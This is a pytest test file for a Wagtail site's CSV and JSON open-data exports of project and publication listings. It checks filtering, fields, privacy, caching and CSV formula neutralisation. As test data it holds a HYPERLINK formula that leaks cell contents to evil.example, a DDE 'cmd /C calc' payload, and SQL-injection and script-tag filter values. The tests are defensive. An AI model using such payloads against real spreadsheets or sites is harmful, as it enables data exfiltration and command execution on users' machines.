"""Open data: every listing state as CSV and JSON, the same rows as the listing.

``/our-work/projects/data.csv`` / ``data.json`` and ``/publications/data.csv`` /
``data.json`` take the listings' filters; and every CSV the site writes, the admin's
exports too, neutralises cells a spreadsheet would run as formulas.
"""

import csv
import datetime
import io
import json

import pytest
from bs4 import BeautifulSoup
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from wagtail.models import PageViewRestriction

from partnerships.importers import import_projects
from partnerships.models import (
    Country,
    HealthTheme,
    PartnerOrganisation,
    ProjectIndexPage,
    ProjectPage,
)
from policy.models import PublicationIndexPage, PublicationPage, PublicationType
from tests.test_import import project_rows, to_csv
from tests.test_policy import add_publications
from thet_site import opendata
from thet_site.csvsafe import neutralise

# Absolute addresses come from the Site record (SITE_URL, else the Site record).
ORIGIN = "http://localhost"

pytestmark = pytest.mark.django_db

PROJECTS = "/our-work/projects/"
PUBLICATIONS = "/publications/"
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


# --- helpers -----------------------------------------------------------------------------


def listing_items(client, url: str, card: str) -> list[tuple[str, str]]:
    """(title, absolute URL) of every card the HTML listing shows, across all its pages."""
    items = []
    while url:
        response = client.get(url)
        assert response.status_code == 200, url
        soup = BeautifulSoup(response.content, "html.parser")
        items += [
            (link.get_text(), ORIGIN + link["href"])
            for link in soup.select(f"{card} .card__title a")
        ]
        following = soup.find("a", rel="next")
        url = url.split("?")[0] + following["href"] if following else None
    return items


def get_csv(client, url: str) -> tuple[object, list[dict]]:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM
    text = response.content.decode("utf-8-sig")
    return response, list(csv.DictReader(io.StringIO(text, newline="")))


def get_json(client, url: str) -> dict:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == "application/json"
    assert response["Access-Control-Allow-Origin"] == "*"
    return json.loads(response.content)


def data_urls(listing: str, query: str) -> tuple[str, str]:
    suffix = f"?{query}" if query else ""
    return f"{listing}data.csv{suffix}", f"{listing}data.json{suffix}"


def index_page():
    return ProjectIndexPage.objects.get()


def new_project(slug: str, title: str, **fields) -> ProjectPage:
    page = ProjectPage(title=title, slug=slug, summary=fields.pop("summary", "A project."))
    page.live = fields.pop("live", True)
    for name, value in fields.items():
        setattr(page, name, value)
    index_page().add_child(instance=page)
    return page


# --- the same rows as the listing ----------------------------------------------------------


PROJECT_QUERIES = [
    "",
    "theme=ncds",
    "country=tanzania",
    "programme=health-partnership-scheme",
    "partner=uk-partner-trust-3",
    "q=Nottingham",
    "country=china&theme=ncds&partner=cnhdrc",
    "theme=mental-health&q=imported",
]


@pytest.mark.parametrize("query", PROJECT_QUERIES)
def test_project_data_lists_exactly_what_the_listing_shows(client, query):
    assert import_projects(to_csv(project_rows(45))).ok  # 48 projects: three listing pages
    listed = listing_items(client, f"{PROJECTS}?{query}", ".project-card")
    assert listed, query
    csv_url, json_url = data_urls(PROJECTS, query)
    _, rows = get_csv(client, csv_url)
    assert [(row["Title"], row["URL"]) for row in rows] == listed
    data = get_json(client, json_url)
    assert [(item["title"], item["url"]) for item in data["items"]] == listed
    assert data["count"] == data["total"] == len(listed)
    assert data["truncated"] is False


PUBLICATION_QUERIES = [
    "",
    "type=report",
    "topic=uk-aid",
    "year=2017",
    "q=diaspora",
    "topic=uk-aid&type=policy-paper",
    "type=report&year=2010",
]


@pytest.mark.parametrize("query", PUBLICATION_QUERIES)
def test_publication_data_lists_exactly_what_the_listing_shows(client, query):
    add_publications(25)  # 30 publications: three listing pages
    listed = listing_items(client, f"{PUBLICATIONS}?{query}", ".publication-teaser")
    assert listed, query
    csv_url, json_url = data_urls(PUBLICATIONS, query)
    _, rows = get_csv(client, csv_url)
    assert [(row["Title"], row["URL"]) for row in rows] == listed
    data = get_json(client, json_url)
    assert [(item["title"], item["url"]) for item in data["items"]] == listed
    assert data["count"] == data["total"] == len(listed)


# --- what a row holds ------------------------------------------------------------------------


def test_project_fields_in_csv_and_json(client):
    project = ProjectPage.objects.get(slug="healthcare-resource-allocation-india-china")
    project.start_year, project.end_year = 2014, 2016
    project.save_revision().publish()
    project.refresh_from_db()
    response, rows = get_csv(client, f"{PROJECTS}data.csv?theme=ncds")
    assert response["Content-Disposition"] == 'attachment; filename="thet-projects-theme-ncds.csv"'
    assert list(rows[0]) == [
        "Title",
        "URL",
        "Summary",
        "Country codes (ISO 3166)",
        "Countries",
        "Health themes",
        "UK partners",
        "Overseas partners",
        "Programme",
        "Start year",
        "End year",
        "Last updated",
        "Start month",
        "End month",
        "Budget",
        "IATI identifier",
    ]
    [row] = rows
    assert row["Title"] == project.title
    assert row["URL"] == f"{ORIGIN}{project.url}"
    assert row["Summary"] == project.summary
    assert row["Country codes (ISO 3166)"] == "CN; IN"
    assert row["Countries"] == "China; India"
    assert row["Health themes"] == "NCDs"
    assert "NICE" in row["UK partners"]
    assert "(China)" in row["Overseas partners"]
    assert row["Programme"] == "Health Partnership Scheme"
    assert (row["Start year"], row["End year"]) == ("2014", "2016")
    assert datetime.datetime.fromisoformat(row["Last updated"]) == project.last_published_at
    assert (row["Start month"], row["End month"], row["Budget"]) == ("", "", "")
    assert row["IATI identifier"] == f"GB-CHC-1113101-{project.pk}"

    data = get_json(client, f"{PROJECTS}data.json?theme=ncds")
    assert data["filters"] == {"theme": "ncds"}
    assert data["source"] == f"{ORIGIN}/our-work/projects/?theme=ncds"
    assert data["licence"]["id"] == "CC-BY-4.0"
    assert data["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert data["licence"]["attribution"] == "Tropical Health & Education Trust (THET)"
    datetime.datetime.fromisoformat(data["generated"])
    [item] = data["items"]
    assert item["countries"] == [{"code": "CN", "name": "China"}, {"code": "IN", "name": "India"}]
    assert item["health_themes"] == ["NCDs"]
    partner = next(p for p in item["overseas_partners"] if p["country"])
    assert partner["country"] == {"code": "CN", "name": "China"}
    assert (item["start_year"], item["end_year"]) == (2014, 2016)
    assert item["programme"] == "Health Partnership Scheme"


def test_publication_fields_with_and_without_a_document(client, publication_pdf):
    page = PublicationPage.objects.get(slug="experts-in-our-midst")
    page.document = publication_pdf
    page.save_revision().publish()
    response, rows = get_csv(client, f"{PUBLICATIONS}data.csv?topic=diaspora")
    assert response["Content-Disposition"] == (
        'attachment; filename="thet-publications-topic-diaspora.csv"'
    )
    by_title = {row["Title"]: row for row in rows}
    row = by_title[page.title]
    assert row["Type"] == "Report"
    assert row["Topics"] == "Diaspora; Health workforce"
    assert row["Publication date"] == "2023-11-01"
    assert row["Document URL"] == f"{ORIGIN}{publication_pdf.url}"
    assert row["Document URL"].startswith(f"{ORIGIN}/documents/")  # the document view
    assert row["Document size (bytes)"] == str(publication_pdf.file_size)
    assert (row["Document format"], row["Document media type"]) == ("PDF", "application/pdf")
    assert client.get(row["Document URL"].removeprefix(ORIGIN)).status_code == 200
    briefing = by_title["General Election 2024 Briefing"]
    assert briefing["Document URL"] == briefing["Document size (bytes)"] == ""

    items = {i["title"]: i for i in get_json(client, f"{PUBLICATIONS}data.json")["items"]}
    assert items[page.title]["document"] == {
        "url": f"{ORIGIN}{publication_pdf.url}",
        "size_bytes": publication_pdf.file_size,
        "format": "PDF",
        "media_type": "application/pdf",
    }
    assert items["General Election 2024 Briefing"]["document"] is None
    assert items[page.title]["publication_date"] == "2023-11-01"


@pytest.mark.parametrize(
    ("url", "filename"),
    [
        (f"{PROJECTS}data.csv", "thet-projects-all.csv"),
        (f"{PROJECTS}data.csv?page=2&utm_source=x", "thet-projects-all.csv"),
        (
            f"{PROJECTS}data.csv?country=china&theme=ncds",
            "thet-projects-country-china-theme-ncds.csv",
        ),
        # The search words as the file was built for them: lower case, in order.
        (f"{PROJECTS}data.csv?q=Mental+Health%22%3B+rm", "thet-projects-q-health-mental-rm.csv"),
        (f"{PROJECTS}data.csv?country=%3Cscript%3E", "thet-projects-all.csv"),
        (f"{PUBLICATIONS}data.csv", "thet-publications-all.csv"),
        (
            f"{PUBLICATIONS}data.csv?type=report&year=2022",
            "thet-publications-type-report-year-2022.csv",
        ),
    ],
)
def test_file_name_says_what_was_filtered_in_safe_characters(client, url, filename):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


def test_long_search_gives_a_bounded_file_name(client):
    response = client.get(f"{PROJECTS}data.csv", {"q": "word " * 40})
    name = response["Content-Disposition"].split('"')[1]
    assert len(name) <= len("thet-projects-.csv") + 80
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")


# --- formulas ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7290 3892", "'+44 20 7290 3892"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Tanzania", "Tanzania"),
        ("a=b", "a=b"),
        ("", ""),
        (2014, 2014),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_formula_cells_are_neutralised_in_the_csv_not_the_json(client):
    partner = PartnerOrganisation.objects.create(
        name="@SUM(1+1)*cmd|' /C calc'!A0", slug="formula-partner"
    )
    theme = HealthTheme.objects.create(name="-2+3", slug="formula-theme")
    project = new_project("formula", HOSTILE, summary="+44 call us")
    project.themes.set([theme])
    project.uk_partners.set([partner])
    project.save_revision().publish()
    _, rows = get_csv(client, f"{PROJECTS}data.csv?theme=formula-theme")
    [row] = rows
    assert row["Title"] == "'" + HOSTILE
    assert row["Summary"] == "'+44 call us"
    assert row["Health themes"] == "'-2+3"
    assert row["UK partners"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Country codes (ISO 3166)"] == ""
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # JSON is data, not a spreadsheet: the text as the editors wrote it.
    [item] = get_json(client, f"{PROJECTS}data.json?theme=formula-theme")["items"]
    assert item["title"] == HOSTILE
    assert item["uk_partners"] == [{"name": partner.name, "country": None}]


def test_admin_csv_export_neutralises_formulas(admin_client):
    """Wagtail's own reports export through ``SpreadsheetExportMixin``."""
    page = ProjectPage.objects.get(slug="violence-aggression-management-tanzania")
    page.title = HOSTILE
    page.save_revision().publish()
    response = admin_client.get("/admin/reports/aging-pages/", {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    titles = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE in titles
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # The Excel export stays as Wagtail writes it: a text cell, no apostrophe added.
    assert admin_client.get("/admin/reports/aging-pages/", {"export": "xlsx"}).status_code == 200


# --- privacy -----------------------------------------------------------------------------------


def test_drafts_scheduled_and_private_projects_never_appear(client):
    index = index_page()
    draft = new_project("draft-project", "Draft project nobody sees", live=False)
    draft.save_revision()
    scheduled = new_project("scheduled-project", "Scheduled project nobody sees", live=False)
    scheduled.go_live_at = timezone.now() + datetime.timedelta(days=3)
    scheduled.save_revision().publish()
    scheduled.refresh_from_db()
    assert not scheduled.live
    private = new_project("private-project", "Private project nobody sees")
    private.save_revision().publish()
    PageViewRestriction.objects.create(page=private, restriction_type="password", password="x")
    live = ProjectPage.objects.get(slug="violence-aggression-management-tanzania")
    live.title = "Unpublished change nobody sees"
    live.save_revision()
    assert index.get_children().count() == 6

    for query in ["", "q=nobody", "programme=health-partnership-scheme"]:
        csv_url, json_url = data_urls(PROJECTS, query)
        text = client.get(csv_url).content.decode("utf-8-sig")
        body = client.get(json_url).content.decode()
        xml = client.get(f"{PROJECTS}data.xml?{query}").content.decode()
        for content in (text, body, xml):
            assert "nobody sees" not in content
    assert client.get(f"{PROJECTS}data.xml").content.count(b"<iati-activity ") == 3
    titles = [item["title"] for item in get_json(client, f"{PROJECTS}data.json")["items"]]
    assert len(titles) == 3
    assert any("violence and aggression" in title for title in titles)  # the live version


def test_drafts_scheduled_and_private_publications_never_appear(client):
    index = PublicationIndexPage.objects.get()
    report = PublicationType.objects.get(slug="report")

    def add(slug, title, live=True):
        page = PublicationPage(
            title=title,
            slug=slug,
            publication_type=report,
            publication_date=datetime.date(2025, 1, 1),
            summary="Hidden.",
            live=live,
        )
        index.add_child(instance=page)
        return page

    add("draft-report", "Draft report nobody sees", live=False).save_revision()
    scheduled = add("scheduled-report", "Scheduled report nobody sees", live=False)
    scheduled.go_live_at = timezone.now() + datetime.timedelta(days=3)
    scheduled.save_revision().publish()
    private = add("private-report", "Private report nobody sees")
    PageViewRestriction.objects.create(page=private, restriction_type="password", password="x")

    for query in ["", "type=report", "year=2025", "q=report"]:
        for url in data_urls(PUBLICATIONS, query):
            assert "nobody sees" not in client.get(url).content.decode("utf-8-sig"), url
    assert get_json(client, f"{PUBLICATIONS}data.json")["count"] == 5


def test_a_private_listing_keeps_its_data_private(client):
    PageViewRestriction.objects.create(page=index_page(), restriction_type="password", password="x")
    for url in [*data_urls(PROJECTS, "theme=ncds"), f"{PROJECTS}data.xml?theme=ncds"]:
        response = client.get(url)
        assert not response["Content-Type"].startswith(
            ("text/csv", "application/json", "application/xml")
        )
        assert b"resource allocation" not in response.content


# --- bad input ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "rows"),
    [
        ("country=abc", 0),  # a slug that names nothing: nothing matches, as on the listing
        ("theme=no-such-theme", 0),
        ("q=zzzzqqqq", 0),
        ("country=%3Cscript%3E", 3),  # malformed: ignored, as on the listing
        ("theme=%27%20OR%201%3D1--", 3),
        ("partner=a%00b", 3),
        ("country=" + "x" * 5000, 3),
        ("page=abc", 3),
        # Hostile search words: whatever the listing makes of them, the data matches it.
        ("q=%22%3E", None),
        ("q=" + "a " * 100, None),
        ("q=%25&country=nepal", None),
    ],
)
def test_bad_project_filters_behave_as_on_the_listing(client, query, rows):
    listed = listing_items(client, f"{PROJECTS}?{query}", ".project-card")
    if rows is not None:
        assert len(listed) == rows
    csv_url, json_url = data_urls(PROJECTS, query)
    assert [(r["Title"], r["URL"]) for r in get_csv(client, csv_url)[1]] == listed
    assert [(i["title"], i["url"]) for i in get_json(client, json_url)["items"]] == listed


@pytest.mark.parametrize(
    "query",
    [
        "type=nonsense",
        "topic=%3Cscript%3E",
        "year=abc",
        "year=99999999999999999999",
        "q=%22%3E",
        "q=%00",
        "type=briefing&type=report",
        "q=" + "x" * 5000,
    ],
)
def test_bad_publication_filters_behave_as_on_the_listing(client, query):
    listed = listing_items(client, f"{PUBLICATIONS}?{query}", ".publication-teaser")
    csv_url, json_url = data_urls(PUBLICATIONS, query)
    assert [(r["Title"], r["URL"]) for r in get_csv(client, csv_url)[1]] == listed
    assert [(i["title"], i["url"]) for i in get_json(client, json_url)["items"]] == listed


@pytest.mark.parametrize(
    "path",
    ["data.xml/", "data.XML", "data.csv/", "data.CSV", "data/", "data.json.csv", "nope/data.csv"],
)
def test_other_file_names_are_not_found(client, path):
    assert client.get(f"{PROJECTS}{path}").status_code == 404


def test_publications_have_no_iati_file(client):
    assert client.get(f"{PUBLICATIONS}data.xml").status_code == 404


def test_a_cap_on_rows_is_stated(client, monkeypatch):
    monkeypatch.setattr(opendata, "MAX_ROWS", 2)
    data = get_json(client, f"{PROJECTS}data.json")
    assert (data["count"], data["total"], data["truncated"]) == (2, 3, True)
    response, rows = get_csv(client, f"{PROJECTS}data.csv")
    assert len(rows) == 2
    assert response["X-Total-Count"] == "3"
    assert response["X-Truncated"] == "first 2 of 3 rows"
    html = client.get(PROJECTS).content.decode()
    text = BeautifulSoup(html, "html.parser").select_one("p.open-data").get_text()
    assert text.startswith("Download the first 2 of these 3 projects (CSV")


# --- links from the listings ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("listing", "query", "expected"),
    [
        (PROJECTS, "", "Download these 3 projects (CSV, JSON, IATI XML)"),
        (PROJECTS, "theme=ncds&page=1", "Download this project (CSV, JSON, IATI XML)"),
        (
            PROJECTS,
            "country=china&theme=ncds&utm_source=x",
            "Download this project (CSV, JSON, IATI XML)",
        ),
        (PUBLICATIONS, "", "Download these 5 publications (CSV, JSON)"),
        (PUBLICATIONS, "topic=diaspora", "Download these 2 publications (CSV, JSON)"),
    ],
)
def test_listing_links_to_its_data_keeping_the_filters(client, listing, query, expected):
    response = client.get(f"{listing}?{query}")
    soup = BeautifulSoup(response.content, "html.parser")
    kept = "&".join(p for p in query.split("&") if p and not p.startswith(("page", "utm")))
    suffix = f"?{kept}" if kept else ""
    csv_href, json_href = f"{listing}data.csv{suffix}", f"{listing}data.json{suffix}"
    head = soup.head
    assert head.find("link", rel="alternate", type="text/csv")["href"] == csv_href
    assert head.find("link", rel="alternate", type="application/json")["href"] == json_href

    download = soup.select_one("p.open-data")
    visible = download.get_text()
    for hidden in download.select(".visually-hidden"):
        visible = visible.replace(hidden.get_text(), "")
    assert visible == expected
    links = download.find_all("a")
    xml_href = [f"{listing}data.xml{suffix}"] if listing == PROJECTS else []
    assert [a["href"] for a in links] == [csv_href, json_href, *xml_href]
    if xml_href:
        assert head.find("link", rel="alternate", type="application/xml")["href"] == xml_href[0]
        assert links[2].get_text().startswith("IATI XML: th")
    # Each link's name says what it downloads, in words that start with what is shown.
    assert links[0].get_text().startswith("CSV: th")
    assert links[1].get_text().startswith("JSON: th")
    # The count beside it is the listing's own, and the data has that many rows.
    count = int(visible.split()[2]) if "these" in visible else 1
    assert get_json(client, json_href)["count"] == count
    assert len(get_csv(client, csv_href)[1]) == count


def test_no_download_link_when_nothing_matches(client):
    soup = BeautifulSoup(client.get(f"{PROJECTS}?country=abc").content, "html.parser")
    assert soup.select_one("p.open-data") is None
    assert soup.head.find("link", type="text/csv")["href"] == f"{PROJECTS}data.csv?country=abc"


# --- caching and queries --------------------------------------------------------------------------


def test_cached_for_visitors_and_dropped_when_a_project_is_published(client):
    url = f"{PROJECTS}data.csv?theme=mental-health"
    first = client.get(url)
    assert first["X-Page-Cache"] == "miss"
    with CaptureQueriesContext(connection) as queries:
        again = client.get(url)
    assert again["X-Page-Cache"] == "hit" and len(queries) == 0
    assert again.content == first.content
    assert again["Content-Disposition"] == first["Content-Disposition"]
    json_url = f"{PROJECTS}data.json?theme=mental-health"
    client.get(json_url)
    assert client.get(json_url)["X-Page-Cache"] == "hit"

    project = ProjectPage.objects.get(slug="violence-aggression-management-tanzania")
    project.title = "Renamed on launch day"
    project.save_revision().publish()
    response = client.get(url)
    assert response["X-Page-Cache"] == "miss"
    assert "Renamed on launch day" in response.content.decode("utf-8-sig")
    assert get_json(client, json_url)["items"][0]["title"] == "Renamed on launch day"


def test_snippet_change_drops_kept_data_when_the_page_cache_is_off(client, settings):
    settings.PAGE_CACHE_ENABLED = False
    url = f"{PROJECTS}data.json?country=tanzania"
    assert get_json(client, url)["items"][0]["countries"][0]["name"] == "Tanzania"
    with CaptureQueriesContext(connection) as queries:
        client.get(url)
    # Kept in the fragment cache: only Wagtail's view-restriction check runs.
    assert not [q["sql"] for q in queries if "partnerships_" in q["sql"]]
    assert len(queries) <= 2
    country = Country.objects.get(slug="tanzania")
    country.name = "United Republic of Tanzania"
    country.save()
    item = get_json(client, url)["items"][0]
    assert item["countries"][0] == {"code": "TZ", "name": "United Republic of Tanzania"}


DATA_QUERY_URLS = [
    f"{PROJECTS}data.csv",
    f"{PROJECTS}data.json",
    f"{PROJECTS}data.csv?theme=ncds&country=china",
    f"{PROJECTS}data.json?programme=health-partnership-scheme&q=health",
    f"{PROJECTS}data.json?partner=nice",
    f"{PUBLICATIONS}data.csv",
    f"{PUBLICATIONS}data.json?topic=uk-aid&q=report",
]


def count_queries(client, url) -> int:
    client.get(url)  # warm Wagtail's per-process caches (site root paths)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries)


def test_query_count_is_flat_from_the_seed_to_500_projects(client, full_render):
    at_seed = {url: count_queries(client, url) for url in DATA_QUERY_URLS}
    report = import_projects(to_csv(project_rows(500)))
    assert report.ok, report.errors[:5]
    add_publications(100)
    at_500 = {url: count_queries(client, url) for url in DATA_QUERY_URLS}
    assert at_500 == at_seed
    assert max(at_500.values()) <= 12, at_500
    assert get_json(client, f"{PROJECTS}data.json")["count"] == 503
